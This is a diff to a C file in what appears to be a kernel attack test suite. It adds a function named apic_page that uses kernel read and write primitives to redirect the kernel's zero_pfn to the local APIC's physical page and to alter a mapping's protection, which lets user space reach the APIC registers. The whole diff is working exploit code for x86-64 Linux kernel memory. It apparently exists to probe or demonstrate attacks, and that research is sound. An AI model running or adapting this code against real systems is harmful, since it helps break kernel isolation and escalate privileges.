@@ -7,14 +7,17 @@
  */
 #include <stddef.h>
 #include <stdio.h>
+#include <sys/mman.h>
 #include <unistd.h>
 
 #include "attack.h"
 #include "list.h"
+#include "objects.h"
 
 #ifdef __x86_64__
 #define START		0x8000		/* memory that nobody has */
 #define APIC_ID		1UL
+#define VERSION		0x30
 #define ICR		0x300
 #define ICR_TARGET	0x310
 #define INIT		0x4500
@@ -117,8 +120,36 @@ enum outcome startup_ipi(void)
 	hotplug_cpu(true);
 	return outcome;
 }
+/* What is no memory is ordinary to the table of frames: anybody may map it. */
+enum outcome apic_page(void)
+{
+	uint64_t number = ksymbol("zero_pfn"), apic = kread64(ksymbol("apic_mmio_base")), old;
+	volatile uint32_t *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
+				       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	uint64_t vma = find_vma(page);
+	struct slot slot;
+	uint32_t version;
+
+	if (!apic || !number || !vma || kwalk(apic, LEAF, 0, &slot))
+		return skipped("the registers of this APIC are not in memory");
+	old = kread64(number);
+	kwrite64(vma + VMA_PROT, writable_protection());
+	kwrite64(number, slot.phys / PAGE_SIZE);
+	version = page[VERSION / sizeof(*page)];
+	madvise((void *)page, PAGE_SIZE, MADV_DONTNEED);
+	kwrite64(number, old);
+	munmap((void *)page, PAGE_SIZE);
+	if (!version)
+		return lost("there is no register");
+	return won("user space has the local APIC's registers: version %#x", version);
+}
 #else
 enum outcome startup_ipi(void)
+{
+	return skipped("x86-64 only");
+}
+
+enum outcome apic_page(void)
 {
 	return skipped("x86-64 only");
 }
